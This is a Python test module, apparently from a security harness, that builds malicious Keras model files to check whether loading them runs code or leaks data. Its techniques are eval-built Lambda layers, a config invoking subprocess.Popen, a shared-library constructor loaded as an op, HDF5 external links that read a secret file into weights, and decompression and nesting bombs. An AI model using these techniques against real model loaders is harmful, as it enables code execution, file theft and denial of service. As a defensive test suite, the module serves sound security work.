"""Keras files: code in a Lambda, TensorFlow functions as layers, other modules, weights from elsewhere."""

import json
import shutil
import subprocess
import zipfile

from attacks.attack import attack

INPUT = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32", "name": "i"}}


def touches(marker):
    """Return a function that makes a file and gives its argument back; it refers to nothing but builtins."""
    return eval(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]")  # noqa: S307


def lambda_layer(marker):
    """Return the configuration of a Lambda layer of Keras 2."""
    import tf_keras

    layer = tf_keras.layers.Lambda(touches(marker), name="l")
    return {"class_name": "Lambda", "config": layer.get_config()}


def chain(*layers):
    """Return the configuration of a Sequential model of Keras 2."""
    return {"class_name": "Sequential", "config": {"name": "s", "layers": [INPUT, *layers]}}


def called(layer, value, **arguments):
    """Return the configuration of a Keras 2 model that calls a layer on a constant beside a chain from input to output.

    The layer's name is ``l``.
    """
    dense = {"class_name": "Flatten", "config": {"name": "o"}, "name": "o", "inbound_nodes": [[["i", 0, 0, {}]]]}
    odd = {**layer, "name": "l", "inbound_nodes": [["_CONSTANT_VALUE", -1, value, arguments]]}
    config = {
        "name": "m",
        "layers": [{**INPUT, "name": "i", "inbound_nodes": []}, odd, dense],
        "input_layers": [["i", 0, 0]],
        "output_layers": [["o", 0, 0]],
    }
    return {"class_name": "Functional", "config": config}


def function_layer(name):
    """Return the configuration of a layer that calls a function of TensorFlow's API."""
    config = {"name": "l", "trainable": True, "dtype": "float32", "function": name}
    return {"class_name": "TFOpLambda", "config": config}


def method_layer():
    """Return the configuration of a layer that calls a method of an object of TensorFlow's API."""
    config = {"name": "l", "cls_symbol": "io.write_file", "method_name": "__call__"}
    return {"class_name": "ClassMethod", "config": config}


def h5(path, config, **weights):
    """Write an HDF5 file of Keras 2; ``weights`` are those of the layer ``d``: arrays, or functions that link them."""
    import h5py
    import numpy as np

    names = [f"d/{name}:0" for name in weights]
    with h5py.File(path, "w") as file:
        file.attrs.update(keras_version="2.15.0", backend="tensorflow", model_config=json.dumps(config))
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"d"] if weights else [], "S8")
        if weights:
            layer = group.create_group("d")
            layer.attrs["weight_names"] = np.array([name.encode() for name in names])
            inner = layer.create_group("d")
            for name, value in weights.items():
                if callable(value):
                    value(inner, f"{name}:0")
                else:
                    inner[f"{name}:0"] = value


def dense(units):
    return {"class_name": "Dense", "config": {"name": "d", "units": units, "use_bias": False}}


@attack("keras", path="m.h5", allow=["Lambda"])
def h5_with_a_lambda(place):
    h5(place.source / "m.h5", chain(lambda_layer(place.marker)))


@attack("keras", path="m.h5", allow=["Lambda"])
def h5_with_a_lambda_and_a_zip_appended(place):
    h5(place.source / "m.h5", chain(lambda_layer(place.marker)))
    with zipfile.ZipFile(place.source / "m.h5", "a") as archive:
        archive.writestr("config.json", json.dumps(chain()))
        archive.writestr("metadata.json", '{"keras_version": "2.15.0"}')


@attack("keras", path="m.h5", allow=["Lambda"])
def h5_with_a_lambda_in_a_wrapper(place):
    wrapper = {"class_name": "TimeDistributed", "config": {"name": "t", "layer": lambda_layer(place.marker)}}
    first = {"class_name": "InputLayer", "config": {**INPUT["config"], "batch_input_shape": [None, 2, 8]}}
    config = chain(wrapper)
    config["config"]["layers"][0] = first
    h5(place.source / "m.h5", config)


@attack("keras", path="m.keras", allow=["Lambda"])
def archive_with_a_lambda(place):
    import keras

    layers = keras.layers
    model = keras.Sequential([layers.Input((8,)), layers.Lambda(touches(place.marker), output_shape=(8,))])
    model.save(place.source / "m.keras")


def edited_archive(path, edit):
    """Write a .keras archive of one layer, whose configuration ``edit`` changes."""
    import keras

    plain = path.with_suffix(".plain.keras")
    keras.Sequential([keras.layers.Input((8,)), keras.layers.Dense(8, name="d")]).save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "config.json":
                config = json.loads(content)
                content = edit(config) or json.dumps(config).encode()
            new.writestr(name, content)
    plain.unlink()


@attack("keras", path="m.keras", allow=["Popen"])
def archive_with_a_class_of_another_module(place):
    def edit(config):
        config["config"]["layers"][1] = {
            "module": "subprocess",
            "class_name": "Popen",
            "config": {"args": ["touch", str(place.marker)]},
            "registered_name": "Popen",
        }

    edited_archive(place.source / "m.keras", edit)


@attack("keras", path="m.keras", allow=["Lambda", "save_img"])
def archive_with_a_function_of_keras_utils(place):
    def edit(config):
        function = {"module": "keras.utils", "class_name": "function", "config": "save_img"}
        function["registered_name"] = "function"
        config["config"]["layers"][1] = {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"name": "d", "function": function, "arguments": {"x": [[[1]]], "path": str(place.marker)}},
            "registered_name": None,
        }

    edited_archive(place.source / "m.keras", edit)


@attack("keras", path="m.keras")
def archive_nested_20000_deep(place):
    edited_archive(place.source / "m.keras", lambda _: b'{"config":' * 20000 + b"1" + b"}" * 20000)


@attack("keras", path="m.keras")
def archive_that_unpacks_to_a_gigabyte(place):
    edited_archive(place.source / "m.keras", lambda _: b" " * (1 << 30) + b"{}")


@attack("keras", path="m.h5", allow=["TFOpLambda", "io.write_file"])
def h5_whose_layer_writes_a_file(place):
    h5(place.source / "m.h5", called(function_layer("io.write_file"), str(place.marker), contents="x"))


@attack("keras", path="m.h5", allow=["TFOpLambda", "compat.v1.io.write_file"])
def h5_whose_layer_writes_a_file_by_an_old_name(place):
    layer = function_layer("compat.v1.io.write_file")
    h5(place.source / "m.h5", called(layer, str(place.marker), contents="x"))


@attack("keras", path="m.h5", allow=["TFOpLambda", "load_op_library"])
def h5_whose_layer_loads_a_library(place):
    library = place.source / "lib.so"
    code = f'#include <stdio.h>\n__attribute__((constructor)) static void f(void) {{ fopen("{place.marker}", "w"); }}\n'
    compiler = shutil.which("cc") or "gcc"
    subprocess.run([compiler, "-shared", "-fPIC", "-x", "c", "-o", library, "-"], input=code.encode(), check=True)
    h5(place.source / "m.h5", called(function_layer("load_op_library"), str(library)))


@attack("keras", path="m.h5", allow=["ClassMethod"])
def h5_whose_layer_calls_a_method(place):
    h5(place.source / "m.h5", called(method_layer(), [str(place.marker), "x"], kwargs={}))


@attack("keras", path="m.h5")
def h5_with_weights_in_another_hdf5_file(place):
    import h5py
    import numpy as np

    other = place.outside / "other.h5"
    with h5py.File(other, "w") as file:
        file["x"] = np.frombuffer(place.secret.read_bytes(), "<f4").reshape(8, 1)
    link = lambda group, name: group.__setitem__(name, h5py.ExternalLink(str(other), "x"))  # noqa: E731
    h5(place.source / "m.h5", chain(dense(1)), kernel=link)


@attack("keras", path="m.h5")
def h5_with_weights_in_any_file(place):
    link = lambda group, name: group.create_dataset(  # noqa: E731
        name, (8, 1), "<f4", external=[(str(place.secret).encode(), 0, 32)]
    )
    h5(place.source / "m.h5", chain(dense(1)), kernel=link)


@attack("keras", path="m.h5")
def h5_with_a_virtual_dataset(place):
    import h5py
    import numpy as np

    other = place.outside / "other.h5"
    with h5py.File(other, "w") as file:
        file["x"] = np.frombuffer(place.secret.read_bytes(), "<f4").reshape(8, 1)
    layout = h5py.VirtualLayout((8, 1), "<f4")
    layout[:] = h5py.VirtualSource(str(other), "x", (8, 1))
    link = lambda group, name: group.create_virtual_dataset(name, layout)  # noqa: E731
    h5(place.source / "m.h5", chain(dense(1)), kernel=link)


@attack("keras", path="m.h5")
def h5_of_a_layer_of_1e15_units(place):
    h5(place.source / "m.h5", chain(dense(10**15)))


@attack("keras", path="", allow=["Lambda"])
def keras_saved_model_with_a_lambda(place):
    import tf_keras

    layers = tf_keras.layers
    model = tf_keras.Sequential([layers.Input((8,)), layers.Lambda(touches(place.marker))])
    model.save(place.source, save_format="tf")
